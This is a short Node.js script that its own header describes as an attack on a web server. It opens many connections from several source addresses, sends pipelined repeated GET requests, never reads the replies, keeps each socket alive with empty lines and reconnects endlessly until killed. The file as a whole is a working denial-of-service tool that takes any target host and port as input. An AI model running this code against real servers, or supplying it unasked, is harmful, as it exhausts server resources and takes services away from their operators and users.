// Attacks a web server by one step again and again until it is killed; prints a line when the first round is out.
import { connect } from 'node:net';

const { from, to, port, connections, requests, path, keeps } = JSON.parse(process.argv[2]);
const bytes = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${to}\r\n\r\n`.repeat(requests));
/** Delay before a cut connection is opened again, in milliseconds: slow enough not to flood connections. */
const pauseMs = 20;

let open = 0;
function attack(localAddress) {
  const socket = connect({ host: to, port, localAddress });
  // Without reading, a client notices the end only by writing; empty lines before a request are allowed.
  const knock = setInterval(() => socket.write('\r\n'), 500);
  let isOver = false;
  const again = () => {
    if (isOver) return;
    isOver = true;
    clearInterval(knock);
    socket.destroy();
    setTimeout(() => attack(localAddress), pauseMs);
  };
  socket.on('error', again);
  socket.on('close', again);
  socket.on('connect', () => {
    open += 1;
    if (open === connections * from.length) console.log('attacking');
    socket.pause();
    socket.write(bytes, () => {
      // Never read; hung up as soon as all is sent, or kept for as long as the server lets it.
      if (!keeps) again();
    });
  });
}
for (const address of from) for (let index = 0; index < connections; index += 1) attack(address);
